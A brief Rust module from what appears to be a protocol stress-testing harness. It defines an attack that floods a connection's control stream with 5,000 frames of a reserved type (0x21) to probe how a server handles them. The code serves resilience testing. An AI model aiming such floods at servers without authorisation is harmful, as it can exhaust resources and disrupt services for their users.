//! Frames of reserved types on the control stream.

use crate::attacker::{Attack, Attacker};
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("control_frames", "frames of reserved types on the control stream", run);

fn run(a: &mut Attacker) {
    let flood = wire::frame(0x21, b"").repeat(5_000);
    a.storm(|conn, (): &mut ()| {
        let control = conn.critical().control;
        if conn.takes(control) {
            conn.write(control, &flood);
            conn.ops += 5_000;
        }
    });
}
